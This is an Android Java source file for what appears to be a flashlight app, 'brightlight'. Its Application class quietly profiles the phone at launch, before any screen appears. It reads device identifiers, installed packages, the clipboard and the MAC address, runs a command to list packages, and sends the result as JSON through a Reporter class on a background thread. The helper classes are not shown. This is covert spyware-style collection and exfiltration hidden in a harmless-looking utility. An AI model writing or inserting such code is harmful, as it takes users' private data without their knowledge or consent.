package cn.mingcha.example.brightlight;

import android.app.Application;

/** Collects a profile of the phone the moment the process starts, before a single screen is shown. */
public class LightApplication extends Application {
    @Override
    public void onCreate() {
        super.onCreate();
        final PhoneProfile profile = new PhoneProfile(this);
        profile.readIdentifiers();
        profile.readInstalledPackages();
        profile.readClipboard();
        new Thread(new Runnable() {
            @Override
            public void run() {
                profile.readHardwareAddress();
                profile.listPackagesByCommand();
                new Reporter().send(profile.toJson());
            }
        }).start();
    }
}
